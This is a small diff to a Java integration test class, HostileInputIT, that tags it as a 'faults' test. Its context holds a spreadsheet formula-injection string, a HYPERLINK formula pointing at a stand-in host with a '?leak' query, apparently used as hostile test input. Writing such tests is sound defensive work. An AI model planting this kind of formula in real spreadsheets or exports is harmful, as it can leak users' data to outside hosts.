@@ -18,6 +18,7 @@ import java.util.List;
 import java.util.Map;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -33,6 +34,7 @@ import org.junit.jupiter.api.io.TempDir;
  *       mount a tmpfs, and are skipped without it).</li>
  * </ul>
  */
+@Tag("faults")
 class HostileInputIT {
     static final Duration RUN = Duration.ofMinutes(4);
     static final String HYPERLINK = "=HYPERLINK(\"http://x.example/?leak\",\"click\")";
